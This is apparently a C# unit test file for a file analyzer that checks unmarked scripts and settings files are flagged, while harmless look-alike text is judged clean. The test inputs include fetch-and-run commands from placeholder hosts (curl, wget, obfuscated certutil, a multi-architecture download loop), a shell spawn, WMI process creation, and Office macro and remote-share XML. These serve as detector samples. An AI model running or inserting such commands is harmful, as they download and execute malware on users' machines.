using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Scripts and settings that no first line tells: never clean, whatever else is known.</summary>
public sealed class UnmarkedScriptTests
{
    [Theory]
    [InlineData("set a=cer\nset b=tutil\n%a%%b% -x http://a.example/a %TEMP%\\a\n", "application/x-bat")]
    [InlineData("curl -o %TEMP%\\x.vbs http://a.example/x.vbs\n%TEMP%\\x.vbs\n", "application/x-bat")]
    [InlineData("import urllib.request, os\np = 'a.bin'\nurllib.request.urlretrieve('http://a.example/a', p)\nos.startfile(p)\n",
        "text/x-python")]
    [InlineData("import socket,os,pty\ns=socket.socket()\npty.spawn('/bin/sh')\n", "text/x-python")]
    [InlineData("Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\no.Create \"a.exe\"\n", "text/vbscript")]
    [InlineData("cd /tmp || cd /var/run; for a in arm mips; do curl -O http://192.0.2.1/$a; chmod +x $a; ./$a; done\n",
        "text/x-shellscript")]
    [InlineData("wget -q http://192.0.2.1/m -O /tmp/m && chmod 777 /tmp/m && /tmp/m\n", "text/x-shellscript")]
    public void Complete_ScriptWithoutAMark_IsAScript(string script, string mediaType)
    {
        var report = Judged.Of(script);

        report.Verdict.ShouldNotBe(Verdict.Clean);
        report.MediaType.ShouldBe(mediaType);
    }

    [Theory]
    [InlineData("import os\n")]
    [InlineData("Import socket wrenches from the depot, and set a date.\n")]
    [InlineData("The folder is %TEMP%; copy it to %APPDATA% by hand.\n")]
    [InlineData("Download it from https://a.example/a.tar.gz; then run ./configure.\n")]
    [InlineData("[Theme]\nDisplayName=Blue\n[Control Panel\\Desktop]\nWallpaper=%SystemRoot%\\web\\img1.jpg\n")]
    public void Complete_TextThatNamesSuchThings_IsClean(string text) => Judged.Of(text).Verdict.ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData("[Theme]\nDisplayName=a\n[VisualStyles]\nPath=\\\\192.0.2.1\\share\\a.msstyles\n", "shortcut.remote")]
    [InlineData("<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\" "
        + "Uri=\"http://a.example/a\"/>",
        "xml.starter")]
    [InlineData("<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" "
        + "w:macrosPresent=\"yes\"/>", "office.macro")]
    [InlineData("<?xml version=\"1.0\"?><office:document xmlns:office=\"o\" xmlns:ooo=\"p\"><ooo:module><ooo:source-code>Sub Main\n"
        + "Shell(\"calc\")\nEnd Sub</ooo:source-code></ooo:module></office:document>", "office.macro")]
    [InlineData("<?xml version=\"1.0\"?><p:sld xmlns:p=\"p\" xmlns:a=\"a\"><a:hlinkMouseOver action=\"ppaction://program\"/></p:sld>",
        "office.starting-link")]
    [InlineData("<?xml version=\"1.0\"?><we:webextension xmlns:we=\"w\"><we:reference store=\"\\\\192.0.2.1\\cat\"/></we:webextension>",
        "xml.file-share")]
    public void Complete_SettingsThatReachOrStartSomething_AreSuspicious(string text, string rule)
    {
        var report = Judged.Of(text);

        report.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(report));
        report.Rules().ShouldContain(rule, Judged.Text(report));
    }
}
